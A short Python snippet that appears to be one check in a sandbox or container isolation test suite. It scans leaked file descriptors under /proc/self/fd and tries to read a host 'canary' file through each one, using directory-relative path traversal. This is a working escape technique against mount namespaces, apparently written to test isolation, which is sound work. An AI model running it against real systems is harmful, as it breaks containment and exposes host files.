"""File descriptors that were left open lead out of any mount namespace."""

for fd in range(256):
    kind = quietly(os.readlink, f"/proc/self/fd/{fd}")
    if kind is None:
        continue
    if kind.startswith("/") and not kind.startswith(("/dev/null", os.getcwd(), "/proc/")):
        through(f"descriptor {fd} is {kind}")
    for path in ("../../../../../../../../" + HOST["canary"], HOST["canary"].lstrip("/")):
        quietly(lambda f, p: print(os.read(os.open(p, os.O_RDONLY, dir_fd=f), 500)), fd, path)
